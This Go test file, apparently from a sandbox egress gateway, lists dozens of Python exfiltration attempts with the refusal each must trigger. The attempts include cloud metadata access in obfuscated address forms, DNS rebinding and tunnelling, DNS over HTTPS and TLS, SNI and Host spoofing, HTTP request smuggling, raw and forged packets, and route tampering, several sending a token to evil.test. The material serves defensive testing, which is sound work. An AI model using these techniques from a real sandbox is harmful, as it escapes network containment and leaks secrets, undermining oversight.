package egress

// An attack is a program that tries to send a token out of a sandbox.
type attack struct {
	name string
	code string // body of a Python function of the token; see tricks.py in package attack. It returns the data that it received
	// event is a regular expression that an event of a refusal must match:
	// "KIND PROTOCOL HOST ADDRESS | RULE | REASON".
	event string
	// inside is the reason why nothing reaches the egress gateway, so that there is no event.
	inside string
	// shut is the reason why the attack cannot succeed with an open policy either.
	shut string
	// bodies means that bodies may contain the token: only data that servers parse as a request
	// counts.
	bodies bool
}

// Attacks on a sandbox that may reach a few hosts.
var restrictedAttacks = []attack{
	// The metadata service, in every notation that programs understand.
	{name: "metadata", code: `return http('169.254.169.254', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, decimal", code: `return http('2852039166', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, hexadecimal", code: `return http('0xA9FEA9FE', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, octal", code: `return http('0251.0376.0251.0376', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, short", code: `return http('169.254.43518', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, IPv4-mapped", code: `return http('::ffff:169.254.169.254', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "metadata, NAT64", code: `return http('64:ff9b::a9fe:a9fe', token)`, event: `connect tcp .*64:ff9b::a9fe:a9fe.*metadata`},
	{name: "metadata, IPv6", code: `return http('fd00:ec2::254', token)`, event: `connect tcp .*fd00:ec2::254.*metadata`},
	{name: "metadata, another cloud's", code: `return http('100.100.100.200', token)`, event: `connect tcp .*100.100.100.200:80`, shut: "its network is that of peers"},
	{name: "metadata, by UDP", code: `return got(udp('169.254.169.254', 123, token.encode()))`, event: `connect udp .*169.254.169.254:123.*metadata`},
	{name: "metadata, by its name", code: `
ips = lookup('metadata.google.internal')
return http(ips[0], token) if ips else None`, event: `lookup .*metadata.google.internal`},
	{name: "metadata, in the Host header", code: `return http('plain.test', token, host='169.254.169.254')`, event: `claim tcp .*names an address`},

	// Names that resolve to other addresses than they should.
	{name: "a name for a private address", code: `
ips = lookup('private.wild.test')
return http(ips[0], token) if ips else None`, event: `lookup .*private.wild.test 10.1.2.3.*private`},
	{name: "a name for the metadata service", code: `
ips = lookup('meta.wild.test')
return http(ips[0], token) if ips else None`, event: `lookup .*meta.wild.test 169.254.169.254.*metadata`},
	{name: "a name for the metadata service, translated", code: `
ips = lookup('meta64.wild.test')
return http(ips[0], token) if ips else None`, event: `lookup .*meta64.wild.test 64:ff9b::a9fe:a9fe.*metadata`},
	{name: "a name with a public and a private address", code: `
ips = [a for a in lookup('both.wild.test') if a.startswith('10.')]
return http(ips[0], token) if ips else None`, event: `lookup .*both.wild.test 10.1.2.3.*private`},
	{name: "rebinding: public first, then private", code: `
for i in range(9):
    for a in lookup('flip%d.wild.test' % (i // 3)):
        if a.startswith('10.'):
            return http(a, token)
    time.sleep(0.05)
ips = lookup('later.wild.test')
time.sleep(6.5)
ips = lookup('later.wild.test')
return http(ips[0], token) if ips and ips[0].startswith('10.') else None`, event: `lookup .*later.wild.test 10.1.2.3.*private`},
	{name: "an alias of an internal name", code: `
ips = lookup('alias.wild.test')
return http(ips[0], token) if ips else None`, event: `lookup .*alias.wild.test 169.254.169.254.*metadata`},
	{name: "a redirect to the metadata service", code: `
import urllib.request
return got(urllib.request.urlopen('http://plain.test/?to=' + ('http://169.254.169.254/?' + token).encode().hex(), timeout=WAIT).read())`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "a redirect to another host", code: `
import urllib.request
return got(urllib.request.urlopen('http://plain.test/?to=' + ('http://evil.test/?' + token).encode().hex(), timeout=WAIT).read())`, event: `lookup .*evil.test`},

	// Names that look like allowed ones.
	{name: "a name that ends like an allowed one", code: `return http('evil-wild.test', token)`, event: `lookup .*evil-wild.test .*no rule`},
	{name: "an allowed name as a prefix", code: `return http('a.wild.test.evil.test', token)`, event: `lookup .*a.wild.test.evil.test`},
	{name: "the suffix of a wildcard itself", code: `return http('wild.test', token)`, event: `lookup  ?wild.test .*no rule`},
	{name: "an evil name with a dot at the end", code: `return http('evil.test.', token)`, event: `lookup .*evil.test`},
	{name: "a homograph", code: `return http('xn--llowed-2nf.test', token)`, event: `lookup .*xn--llowed-2nf.test`},
	{name: "a name with a NUL in it", code: `
code, _, a = ask('allowed.test\0.evil')
return (a or None) and got(b'REACHED ' + a[0])`, event: `(lookup|limit) .*`, shut: "no resolver answers such a name"},
	{name: "an address that no allowed name led to", code: `return http('93.184.216.50', token, host='unasked.test')`, event: `connect tcp .*93.184.216.50:80.*no allowed name`},
	{name: "an address in a URL", code: `return https('93.184.216.60', token, None)`, event: `connect tcp .*93.184.216.60:443`},
	{name: "an address in IPv6", code: `return http('2606:2800::66', token)`, event: `connect tcp .*2606:2800::66`},
	{name: "a port that no rule names", code: `return got(say('ssh.test', 25, None))`, event: `connect tcp ssh.test .*93.184.216.40:25.*other ports`},
	{name: "a host that is allowed on another port", code: `return http('ssh.test', token, port=8080)`, event: `connect tcp ssh.test .*93.184.216.40:8080`},

	// DNS as a way out.
	{name: "tunnel: long names", code: `
for i in range(20):
    n = '.'.join([token + 'x' * 20 + str(i), 'y' * 60, 'z' * 60, 'w' * 20, 'wild.test'])
    try:
        code, _, a = ask(n)
    except OSError:
        continue
    if a:
        return 'answered'`, event: `(lookup|limit) .*yyyy.*(too long|too much data)`, shut: "they are too long for every policy"},
	{name: "tunnel: names of a host that nobody named", code: `
for i in range(30):
    ask(token + str(i) + '.tunnel.evil.test')`, event: `lookup .*tunnel.evil.test .*no rule`},
	{name: "tunnel: NULL records", code: `
code, _, a = ask(token + '.wild.test', 10)
return a or None`, event: `lookup .*wild.test .*records of this type`, shut: "our DNS has no such records"},
	{name: "tunnel: TXT records", code: `
code, _, a = ask(token + '.evil.test', 16)
return a or None`, event: `lookup .*evil.test .*no rule`},
	{name: "tunnel: another class", code: `
code, _, a = ask(token + '.wild.test', 16, qclass=3)
return a or None`, event: `lookup .*class`, shut: "our DNS knows no other class"},
	{name: "tunnel: what follows the question", code: `
opt = b'\0' + struct.pack('>HHIH', 41, 4096, 0, 4 + len(token)) + struct.pack('>HH', 65001, len(token)) + token.encode()
ask('allowed.test', 1, extra=opt)
ask('evil.test', 1, extra=opt)`, event: `lookup .*evil.test`, shut: "our DNS asks its own questions"},
	{name: "another resolver", code: `return records(udp('8.8.8.8', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*8.8.8.8:53.*resolver`},
	{name: "another resolver over TCP", code: `return ask_tcp(token + '.evil.test', server='8.8.8.8')[2] or None`, event: `connect tcp .*8.8.8.8:53.*resolver`},
	{name: "another resolver in IPv6", code: `return records(udp('2620:fe::fe', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*2620:fe::fe.*53.*resolver`},
	{name: "the egress gateway's own resolver", code: `return records(udp('9.9.9.53', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*9.9.9.53:53.*resolver`},
	{name: "DNS over TLS", code: `
with connect('9.9.9.9', 853) as s:
    return got(drain(secure(s, 'dns.quad9.net', ['dot'])))`, event: `connect tcp .*9.9.9.9:853.*resolver`},
	{name: "DNS over TLS at an allowed host", code: `
with connect('allowed.test', 853) as s:
    return got(drain(secure(s, 'allowed.test', ['dot'])))`, event: `connect tcp allowed.test .*:853.*resolver`},
	{name: "DNS over TLS on a web port", code: `return answered(say('cdn.test', 443, hello('cdn.test', struct.pack('>HHHB', 16, 6, 4, 3) + b'dot')))`, event: `claim tcp .*resolver`},
	{name: "DNS over HTTPS", code: `return https('dns.google', token, 'dns.google')`, event: `lookup .*dns.google`},
	{name: "DNS over HTTPS through an allowed host's address", code: `return https('cdn.test', token, 'dns.google')`, event: `claim tcp dns.google `},
	{name: "DNS over HTTPS by address", code: `return https('8.8.8.8', token, None)`, event: `connect tcp .*8.8.8.8:443`},
	{name: "DNS over QUIC", code: `return got(udp('cdn.test', 853, token.encode()))`, event: `connect udp cdn.test .*:853`, shut: "nobody listens there"},

	// The host name that a client claims.
	{name: "another host in SNI", code: `return https('cdn.test', token, 'evil.test')`, event: `claim tcp evil.test .*no rule opens`},
	{name: "another allowed host in SNI", code: `return https('cdn.test', token, 'allowed.test')`, event: `claim tcp allowed.test .*not given out`},
	{name: "no SNI", code: `return https('cdn.test', token, None)`, event: `claim tcp .*names no host`},
	{name: "an address in SNI", code: `return answered(say('cdn.test', 443, hello('93.184.216.20')))`, event: `claim tcp .*bad ClientHello`, shut: "servers refuse it themselves"},
	{name: "encrypted SNI", code: `return answered(say('cdn.test', 443, hello('cdn.test', ECH)))`, event: `claim tcp cdn.test .*encrypted`},
	{name: "SNI in pieces", code: `return answered(say('cdn.test', 443, hello('evil.test', pieces=20)))`, event: `claim tcp evil.test .*no rule opens`},
	{name: "SNI in too many pieces", code: `return answered(say('cdn.test', 443, hello('evil.test', pieces=1)))`, event: `claim tcp .*bad ClientHello`, shut: "servers refuse it themselves"},
	{name: "two names in SNI", code: `
two = b'\0' + struct.pack('>H', 8) + b'cdn.test' + b'\0' + struct.pack('>H', 9) + b'evil.test'
return answered(say('cdn.test', 443, hello(None, struct.pack('>HHH', 0, len(two) + 2, len(two)) + two)))`, event: `claim tcp .*bad ClientHello`, shut: "servers refuse it themselves"},
	{name: "neither TLS nor HTTP", code: `return got(say('cdn.test', 443, b'\x05\x01\x00' + token.encode()))`, event: `claim tcp .*neither TLS nor HTTP`},
	{name: "HTTP/2 in the clear", code: `return got(say('plain.test', 80, b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + token.encode()))`, event: `claim tcp .*bad HTTP request`},
	{name: "another host in Host", code: `return http('plain.test', token, host='evil.test')`, event: `claim tcp evil.test .*no rule opens`},
	{name: "another allowed host in Host", code: `return http('plain.test', token, host='allowed.test')`, event: `claim tcp allowed.test .*not given out`},
	{name: "another host in the request's target", code: `
return got(say('plain.test', 80, f'GET http://evil.test/?{token} HTTP/1.1\r\nHost: plain.test\r\n\r\n'.encode()))`, event: `claim tcp .*bad HTTP request`},
	{name: "another host in both", code: `
return got(say('plain.test', 80, f'GET http://evil.test/?{token} HTTP/1.1\r\nHost: evil.test\r\n\r\n'.encode()))`, event: `claim tcp evil.test .*no rule opens`},
	{name: "two Hosts", code: `return http('plain.test', token, host='plain.test\r\nHost: evil.test')`, event: `claim tcp .*bad HTTP request`},
	{name: "a folded Host", code: `return http('plain.test', token, host='plain.test\r\n .evil.test')`, event: `claim tcp .*bad HTTP request`},
	{name: "a Host with a space before its colon", code: `
return got(say('plain.test', 80, f'GET /?{token} HTTP/1.1\r\nHost : evil.test\r\nHost: plain.test\r\n\r\n'.encode()))`, event: `claim tcp .*bad HTTP request`},
	{name: "a Host with a user", code: `return http('plain.test', token, host='plain.test@evil.test')`, event: `claim tcp .*bad HTTP request`},
	{name: "a Host with another port", code: `return http('plain.test', token, host='plain.test:8080')`, event: `claim tcp plain.test .*port`},
	{name: "bare line feeds", code: `
return got(say('plain.test', 80, f'GET /?{token} HTTP/1.1\nHost: evil.test\n\n'.encode()))`, event: `claim tcp .*bad HTTP request`},
	{name: "no Host", code: `return got(say('plain.test', 80, f'GET /?{token} HTTP/1.0\r\n\r\n'.encode()))`, event: `claim tcp .*names no host`},
	{name: "another host in the second request", code: `
with connect('plain.test', 80) as s:
    s.sendall(b'GET /first HTTP/1.1\r\nHost: plain.test\r\n\r\n')
    first = drain(s)
    if b'REACHED' not in first:
        raise OSError('the first request failed: %r' % first)
    s.sendall(request('/?' + token, 'evil.test'))
    return got(drain(s))`, event: `claim tcp evil.test .*no rule opens`},
	{name: "another host in a pipelined request", code: `
return got(say('plain.test', 80, b'GET /first HTTP/1.1\r\nHost: plain.test\r\n\r\n' + request('/?' + token, 'evil.test')).split(b'REACHED', 2)[2:] and b'REACHED')`,
		event: `claim tcp evil.test .*no rule opens`, shut: "the tool stops at the first answer; the one before is the same"},
	{name: "a request smuggled in a body", code: `
inner = request('/?' + token, 'evil.test')
say('plain.test', 80, b'POST /first HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nX' + inner)
say('plain.test', 80, b'POST /first HTTP/1.1\r\nHost: plain.test\r\nTransfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n' % len(inner) + inner)
say('plain.test', 80, b'POST /first HTTP/1.1\r\nHost: plain.test\r\nContent-Length: %d\r\nContent-Length: 0\r\n\r\n' % len(inner) + inner)
say('plain.test', 80, b'GET /first HTTP/1.1\r\nHost: plain.test\r\n\r\n' + inner)`, event: `claim tcp evil.test .*no rule opens`, bodies: true},
	{name: "a tunnel through a web server", code: `
return got(say('plain.test', 80, f'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nX: {token}\r\n\r\n'.encode()))`, event: `claim tcp .*`},
	{name: "a tunnel through a web server to itself", code: `
return got(say('plain.test', 80, f'CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test:80\r\nX: {token}\r\n\r\n'.encode()))`, event: `claim tcp plain.test .*tunnel`},

	// UDP.
	{name: "UDP to anybody", code: `return got(udp('93.184.217.123', 5000, token.encode()))`, event: `connect udp .*93.184.217.123:5000`},
	{name: "UDP to an allowed host", code: `return got(udp('allowed.test', 5000, token.encode()))`, event: `connect udp allowed.test .*:5000`},
	{name: "QUIC to an allowed host", code: `return got(udp('cdn.test', 443, token.encode()))`, event: `connect udp cdn.test .*:443.*(QUIC|udp)`},
	{name: "a datagram in fragments", code: `
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(1)
    s.sendto(token.encode() * 2000, ('93.184.217.124', 5000))
    return got(s.recv(4096))`, event: `connect udp .*93.184.217.124:5000`},

	// ICMP.
	{name: "echo", code: `return echo('93.184.217.125', token.encode()) and 'answered'`, event: `connect icmp .*93.184.217.125`},
	{name: "echo to an allowed host", code: `return [echo(a, token.encode()) and 'answered' for a in lookup('allowed.test') if '.' in a][0]`, event: `connect icmp .*93.184.216.10.*icmp://`},

	// Closed networks.
	{name: "a private network", code: `return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`},
	{name: "a private network that nobody opened", code: `return http('10.77.0.1', token)`, event: `connect tcp .*10.77.0.1:80.*private`, shut: "the operator did not open it"},
	{name: "a private network in IPv6", code: `return http('fd12::1', token)`, event: `connect tcp .*fd12::1.*private`},
	{name: "a home network", code: `return http('192.168.0.1', token)`, event: `connect tcp .*192.168.0.1:80.*private`},
	{name: "a private network through 6to4", code: `return http('2002:a01:203::1', token)`, event: `connect tcp .*2002:a01:203::1.*6to4`, shut: "nobody opens it"},
	{name: "a private network through Teredo", code: `return http('2001:0:a01:203::1', token)`, event: `connect tcp .*2001:0:a01:203::1.*Teredo`, shut: "nobody opens it"},
	{name: "a private network, compatible", code: `return http('::10.1.2.3', token)`, event: `connect tcp .*::10.1.2.3|connect tcp .*::a01:203`, shut: "nobody opens it"},
	{name: "a carrier's network", code: `return http('100.64.0.1', token) or http('100.64.0.2', token)`, event: `connect tcp .*100.64.0.1:80.*group`, shut: "it is for peers"},
	{name: "the host", code: `return got(say('198.18.0.1', 47113, None))`, event: `connect tcp .*198.18.0.1:47113`},
	{name: "the host's loopback", code: `
for a in ('127.0.0.1', 'localhost', '127.1', '0.0.0.0', '0', '2130706433', '::1', '::ffff:127.0.0.1', '127.0.0.53'):
    try:
        r = got(say(a, 47113, None, 0.5))
    except OSError:
        continue
    if r:
        return a + ' ' + r`, inside: "the sandbox has a loopback of its own", shut: "there is none"},
	{name: "the gateway's ports", code: `
for p in (22, 80, 443, 7350, 8080, 47113, 49983):
    for a in ('10.88.0.1', 'fd00:e1::1'):
        try:
            r = got(say(a, p, token.encode(), 0.5))
        except OSError:
            continue
        if r:
            return r`, event: `connect tcp .*10.88.0.1:80.*nothing but DNS`, shut: "there is nothing"},
	{name: "the gateway's ports by UDP", code: `return udp('10.88.0.1', 123, token.encode())`, event: `connect udp .*10.88.0.1:123.*nothing but DNS`, shut: "there is nothing"},
	{name: "another sandbox by its address", code: `
for a in ('10.88.0.6', '10.88.1.2', '10.88.0.3'):
    try:
        r = http(a, token, timeout=0.7)
    except OSError:
        continue
    if r:
        return r`, event: `connect tcp .*10.88.(0.6|1.2).*private`, shut: "each is alone on its link"},
	{name: "the link in IPv6", code: `
for a in ('fe80::1%eth0', 'ff02::1%eth0', 'fe80::e1ff:fe00:1%eth0'):
    try:
        r = got(say(a, 80, request('/?' + token, 'x'), 0.7))
    except OSError:
        continue
    if r:
        return r`, inside: "the sandbox has no link-local address", shut: "there is nobody"},
	{name: "multicast and broadcast", code: `
for a in ('224.0.0.251', '255.255.255.255', '10.88.0.3'):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            s.sendto(token.encode(), (a, 5353))
        except OSError:
            pass`, inside: "every system sends such; the egress gateway drops them silently", shut: "they lead nowhere"},
}

// Attacks with packets, by root. Where the sandbox's kernel refuses the
// socket, nothing reaches the egress gateway.
var packetAttacks = []attack{
	{name: "a raw packet with a forged source", code: `raw('93.184.217.130', ip4('198.51.100.7', '93.184.217.130', 17, datagram('198.51.100.7', '93.184.217.130', 5000, 5000, token.encode())))`,
		event: `limit .*forged source`, shut: "the egress gateway drops such whatever the policy"},
	{name: "a fragment", code: `
whole = datagram('10.88.0.2', '93.184.217.131', 5000, 5000, token.encode() * 40)
raw('93.184.217.131', ip4('10.88.0.2', '93.184.217.131', 17, whole[:400], fragment=0x2000))
raw('93.184.217.131', ip4('10.88.0.2', '93.184.217.131', 17, whole[400:], fragment=50))`, event: `limit .*fragment`, shut: "the egress gateway drops such whatever the policy"},
	{name: "tiny fragments of a TCP header", code: `
syn = struct.pack('>HHIIBBHHH', 40000, 80, 1, 0, 0x50, 2, 1024, 0, 0)
raw('93.184.217.132', ip4('10.88.0.2', '93.184.217.132', 6, syn[:8], fragment=0x2000))
raw('93.184.217.132', ip4('10.88.0.2', '93.184.217.132', 6, syn[8:], fragment=1))`, event: `limit .*fragment`, shut: "the egress gateway drops such whatever the policy"},
	{name: "loose source routing", code: `
route = bytes([131, 7, 4]) + socket.inet_aton('10.1.2.3') + b'\0'
raw('93.184.216.10', ip4('10.88.0.2', '93.184.216.10', 17, datagram('10.88.0.2', '93.184.216.10', 5000, 5000, token.encode()), options=route))`,
		event: `limit .*options`, shut: "the egress gateway drops such whatever the policy"},
	{name: "another protocol", code: `raw('93.184.217.133', ip4('10.88.0.2', '93.184.217.133', 47, b'\0\0\x08\0' + token.encode()))`,
		event: `limit .*another protocol`, shut: "the egress gateway drops such whatever the policy"},
	{name: "IPv4 in IPv4", code: `raw('93.184.217.134', ip4('10.88.0.2', '93.184.217.134', 4, ip4('10.88.0.2', '10.1.2.3', 17, datagram('10.88.0.2', '10.1.2.3', 5000, 5000, token.encode()))))`,
		event: `limit .*another protocol`, shut: "the egress gateway drops such whatever the policy"},
	{name: "a raw UDP packet", shut: "root has no raw sockets", code: `raw('93.184.217.135', ip4('10.88.0.2', '93.184.217.135', 17, datagram('10.88.0.2', '93.184.217.135', 5000, 5000, token.encode())))`,
		event: `connect udp .*93.184.217.135:5000`},
	{name: "a frame", shut: "root has no packet sockets", code: `
frame(bytes.fromhex('02e100000001'), 0x0800, ip4('10.88.0.2', '93.184.217.136', 17, datagram('10.88.0.2', '93.184.217.136', 5000, 5000, token.encode())))`,
		event: `connect udp .*93.184.217.136:5000`},
	{name: "a frame of ARP that takes the gateway's address", code: `
frame(b'\xff' * 6, 0x0806, struct.pack('>HHBBH', 1, 0x0800, 6, 4, 2) + bytes.fromhex('02e100000002') + socket.inet_aton('10.88.0.1') + b'\xff' * 6 + socket.inet_aton('10.88.0.1'))
return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`, shut: "there is nobody else on the link"},
	{name: "another address", code: `
shell('ip addr add 198.51.100.9/24 dev eth0 2>&1; ip addr add 10.1.2.4/16 dev eth0 2>&1')
return got(udp('93.184.217.137', 5000, token.encode(), source='198.51.100.9'))`, event: `limit .*forged source`, shut: "the egress gateway drops such whatever the policy"},
	{name: "other routes", code: `
shell('ip route add 10.1.0.0/16 via 10.88.0.1 2>&1; ip route replace default dev eth0 2>&1; ip route add local 169.254.169.254 dev lo 2>&1')
return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`},
	{name: "another interface", code: `
shell('ip link add extra type dummy 2>&1; ip link add v0 type veth peer name v1 2>&1; ip link set eth0 mtu 1200 2>&1; ip link set extra up 2>&1; ip addr add 10.1.2.9/24 dev extra 2>&1; ip link del extra 2>&1')
return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`},
	{name: "small packets", code: `
shell('ip link set eth0 mtu 600 2>&1')
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(token.encode() * 200, ('93.184.217.138', 5000))
        return got(s.recv(4096))
finally:
    shell('ip link set eth0 mtu 65520 2>&1')`, event: `(limit .*fragment|connect udp .*93.184.217.138:5000)`},
}

// Attacks on a sandbox that may reach everything public but some hosts.
var openAttacks = []attack{
	{name: "open: metadata", code: `return http('169.254.169.254', token)`, event: `connect tcp .*169.254.169.254:80 .*metadata`},
	{name: "open: metadata by its name", code: `
ips = lookup('metadata.google.internal')
return http(ips[0], token) if ips else None`, event: `lookup .*metadata.google.internal`},
	{name: "open: a private network", code: `return http('10.1.2.3', token)`, event: `connect tcp .*10.1.2.3:80.*private`},
	{name: "open: the host", code: `return got(say('198.18.0.1', 47113, None))`, event: `connect tcp .*198.18.0.1:47113`},
	{name: "open: rebinding", code: `
ips = lookup('private.wild.test')
return http(ips[0], token) if ips else None`, event: `lookup .*private.wild.test 10.1.2.3.*private`},
	{name: "open: another resolver", code: `return records(udp('8.8.8.8', 53, question(token + '.evil.test')))[2] or None`, event: `connect udp .*8.8.8.8:53.*resolver`},
	{name: "open: DNS over TLS", code: `
with connect('9.9.9.9', 853) as s:
    return got(drain(secure(s, 'dns.quad9.net')))`, event: `connect tcp .*9.9.9.9:853.*resolver`},
	{name: "open: DNS over HTTPS", code: `return https('dns.google', token, 'dns.google')`, event: `lookup .*dns.google`},
	{name: "open: DNS over HTTPS by address", code: `return https('8.8.8.8', token, None)`, event: `connect tcp .*8.8.8.8:443.*resolver`},
	{name: "open: a denied host", code: `return http('evil.test', token)`, event: `lookup .*evil.test .*denied`},
	{name: "open: a denied host in SNI", code: `return https('cdn.test', token, 'deep.evil.test')`, event: `claim tcp deep.evil.test .*denied`},
	{name: "open: a denied host in Host", code: `return http('cdn.test', token, host='evil.test')`, event: `claim tcp evil.test .*denied`},
	{name: "open: a denied network", code: `return http('93.184.219.7', token)`, event: `connect tcp .*93.184.219.7:80.*denied`},
	{name: "open: QUIC, which hides the host", code: `return got(udp('93.184.216.20', 443, token.encode()))`, event: `connect udp .*93.184.216.20:443.*QUIC`},
	{name: "open: encrypted SNI", code: `return answered(say('cdn.test', 443, hello('cdn.test', ECH)))`, event: `claim tcp cdn.test .*encrypted`},
}

// Attacks on a sandbox whose connections to one host are intercepted.
var watchedAttacks = []attack{
	{name: "watched: fronting inside TLS", code: `return https('cdn.test', token, 'cdn.test', host='dns.google')`, event: `(claim|request) .*`},
	{name: "watched: fronting of another allowed host", code: `return https('cdn.test', token, 'cdn.test', host='allowed.test')`, event: `(claim|request) .*`},
}
